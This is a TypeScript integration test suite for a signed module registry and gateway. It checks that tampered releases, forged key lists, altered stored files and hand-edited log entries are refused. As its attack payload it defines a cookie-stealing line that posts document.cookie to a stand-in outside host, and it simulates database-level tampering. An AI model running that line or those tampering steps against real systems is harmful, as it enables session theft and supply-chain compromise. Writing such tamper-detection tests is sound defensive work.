import { mkdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { keyListType } from '@seed/contracts/key-list';
import type { LogVerification } from '@seed/registry-contracts/log';
import { aRelease, build, done, moved, sha256, statementOf } from './testing/factories.ts';
import type { GatewayProcess } from './testing/gateway-process.ts';
import { eventually, type SignedPortal, signedPortal, untilServed } from './testing/signed-portal.ts';
import { signer } from './testing/signer.ts';

// A change without an entry of the log is read after 10 seconds.
jest.setTimeout(180_000);

interface Rows {
  /** Changes a JSON column of one row. */
  change<T>(
    place: { readonly table: string; readonly column: string; readonly where: string },
    edit: (value: T) => T,
  ): Promise<void>;
}

function rowsOf({ registry: { database } }: SignedPortal): Rows {
  return {
    async change<T>(
      { table, column, where }: { readonly table: string; readonly column: string; readonly where: string },
      edit: (value: T) => T,
    ) {
      const [row] = await database.query<{ id: number; value: unknown }[]>(
        `SELECT id, ${column} AS value FROM ${table} WHERE ${where} ORDER BY id DESC LIMIT 1`,
      );
      if (row === undefined) throw new Error(`There is no row of ${table}`);
      const before = typeof row.value === 'string' ? (JSON.parse(row.value) as T) : (row.value as T);
      await database.query(`UPDATE ${table} SET ${column} = ? WHERE id = ?`, [JSON.stringify(edit(before)), row.id]);
    },
  };
}

const release = { table: 'releases', column: 'content', where: "release_version = '1.1.0'" };
const newestSet = { table: 'release_sets', column: 'channels', where: '1 = 1' };

type Sets = Record<string, Record<string, { version: string; digest: string }>>;
interface Content {
  readonly statement: string;
}

/** Points stable to 1.1.0 in the newest set, as a writer of the database could; no log has an entry of it. */
async function pointTo(portal: SignedPortal, digest: string): Promise<void> {
  await rowsOf(portal).change<Sets>(newestSet, (channels) => ({
    ...channels,
    stable: { ...channels['stable'], notices: { version: '1.1.0', digest } },
  }));
}

const digestOf = async ({ registry }: SignedPortal) => {
  const path = '/api/v1/registry/modules/notices/releases/1.1.0';
  return (await done(registry.as('ana').get<{ digest: string }>(path))).digest;
};

/** The script of the attack, and its digest. */
const evil = 'fetch("https://elsewhere.example", { body: document.cookie })';

const attacks: readonly (readonly [string, string, (portal: SignedPortal) => Promise<void>])[] = [
  [
    'the row of a release has another statement',
    'statement',
    async (portal) => {
      const changed = ({ statement, ...content }: Content) => {
        const [header, body = '', signature] = statement.split('.');
        const text = Buffer.from(body, 'base64url').toString().replace(sha256('main'), sha256(evil));
        return { ...content, statement: [header, Buffer.from(text).toString('base64url'), signature].join('.') };
      };
      await rowsOf(portal).change<Content>(release, changed);
      await pointTo(portal, await digestOf(portal));
    },
  ],
  [
    'the row of a release has the statement of a key of the attacker, and the row of the module that key',
    'key',
    async (portal) => {
      const key = await signer();
      const statement = await statementOf({ ...portal.team, signer: key }, '1.1.0', build('notices', '1.1.0'));
      await rowsOf(portal).change<Content>(release, (content) => ({ ...content, statement }));
      const keyList = await key.sign({ module: 'notices', version: 99, keys: [key.publicKey] }, { typ: keyListType });
      const pinned = [{ kid: key.kid, publicKey: key.publicKey, addedAt: new Date().toISOString(), revokedAt: null }];
      const update = 'UPDATE registered_modules SET key_list = ?, signing_keys = ?';
      await portal.registry.database.query(update, [keyList, JSON.stringify(pinned)]);
      await pointTo(portal, await digestOf(portal));
    },
  ],
  ['the pointer names other files', 'digest', (portal) => pointTo(portal, 'f'.repeat(64))],
  [
    'a stored file has other code',
    'file',
    async (portal) => {
      const digest = sha256('entry notices 1.1.0');
      await writeFile(join(portal.registry.folder, digest.slice(0, 2), digest), evil);
      await pointTo(portal, await digestOf(portal));
    },
  ],
];

/** A gateway that serves 1.0.0, and a registry that has 1.1.0, too. */
async function servingPortal() {
  const portal = await signedPortal();
  await aRelease(portal.team, '1.0.0');
  await aRelease(portal.team, '1.1.0');
  await moved(portal.team.client, 'stable', { notices: '1.0.0' });
  const serving = await portal.gateway('one');
  await untilServed(serving, '1.0.0');
  return {
    ...portal,
    serving,
    async [Symbol.asyncDispose]() {
      await serving.kill();
      await portal[Symbol.asyncDispose]();
    },
  };
}

async function untilRefused(gateway: GatewayProcess, reason: string): Promise<void> {
  const line = new RegExp(`^gateway_release_refusals_total\\{module="notices",reason="${reason}".*\\} [1-9]`, 'm');
  await eventually(
    async () => line.test(await gateway.metrics()),
    `the metrics have a refusal for the reason ${reason}`,
  );
}

const fileOf = async (gateway: GatewayProcess, version: string) =>
  (await fetch(`${gateway.url}/m/notices/${version}/main.js`)).status;

test.each(attacks)(
  'when %s, the last good release stays, and metrics and log name the reason',
  async (_, reason, attack) => {
    await using portal = await servingPortal();
    const { serving: gateway } = portal;
    await attack(portal);
    await untilRefused(gateway, reason);
    expect(await gateway.versions()).toEqual({ notices: '1.0.0' });
    expect(await fileOf(gateway, '1.1.0')).toBe(404);
    expect(await fileOf(gateway, '1.0.0')).toBe(200);
    const [line = ''] = await gateway.logged('a release is refused');
    expect(JSON.parse(line)).toMatchObject({ module: 'notices', version: '1.1.0', err: { code: reason } });
    // A gateway without a good release of its own shows the module as unavailable.
    await using fresh = await portal.gateway('fresh');
    await untilRefused(fresh, reason);
    // The refusal is counted while the set is read, and shown once it is.
    await eventually(
      async () => (await fresh.boot()).unavailable?.[0]?.id === 'notices',
      'the boot document names the module as unavailable',
    );
    expect(await fileOf(fresh, '1.1.0')).toBe(404);
  },
);

test('an entry of the log that is changed or appended by hand moves nothing, and is found', async () => {
  await using portal = await servingPortal();
  const { registry, serving: gateway } = portal;
  const { database } = registry;
  await database.query('DROP TRIGGER log_entries_no_update').catch(() => undefined);
  const [last] = await database.query<{ sequence: number; hash: string }[]>(
    'SELECT sequence, hash FROM log_entries ORDER BY sequence DESC LIMIT 1',
  );
  const sequence = (last?.sequence ?? 0) + 1;
  const moves = [{ module: 'notices', from: '1.0.0', to: '1.1.0' }];
  const content = JSON.stringify({
    sequence,
    at: new Date(),
    by: 'ana',
    act: 'channel-moved',
    channel: 'stable',
    moves,
  });
  const insert = 'INSERT INTO log_entries (sequence, content, previous_hash, hash) VALUES (?, ?, ?, ?)';
  await database.query(insert, [sequence, content, last?.hash, sha256('made up')]);
  await database.query('UPDATE log_head SET sequence = ?, hash = ?', [sequence, sha256('made up')]);
  const verification = await done(registry.as('ana').get<LogVerification>('/api/v1/registry/log/verification'));
  expect(verification).toMatchObject({ isIntact: false, brokenAt: sequence });
  await aRelease(portal.team, '1.2.0');
  await moved(portal.team.client, 'stable', { notices: '1.2.0' });
  await untilServed(gateway, '1.2.0');
});

test('a line of the registry file that names code of the attacker is not followed', async () => {
  const folder = 'modules-of-the-attacker';
  await using portal = await signedPortal();
  const { team } = portal;
  await aRelease(team, '1.0.0');
  await moved(team.client, 'stable', { notices: '1.0.0' });
  const data = portal.dataOf('one');
  const modules = join(data, folder);
  const files = { ...build('notices', '6.6.6'), 'main.js': evil };
  for (const [path, content] of Object.entries(files)) {
    await mkdir(join(modules, 'notices/6.6.6/chunks'), { recursive: true });
    await writeFile(join(modules, 'notices/6.6.6', path), content);
  }
  await writeFile(join(data, 'registry.json'), JSON.stringify({ modules: { notices: '6.6.6', clubs: '6.6.6' } }));
  await using gateway = await portal.gateway('one', { env: { MODULES_DIR: modules } });
  await untilServed(gateway, '1.0.0');
  expect(await gateway.versions()).toEqual({ notices: '1.0.0' });
  expect(await fileOf(gateway, '6.6.6')).toBe(404);
});
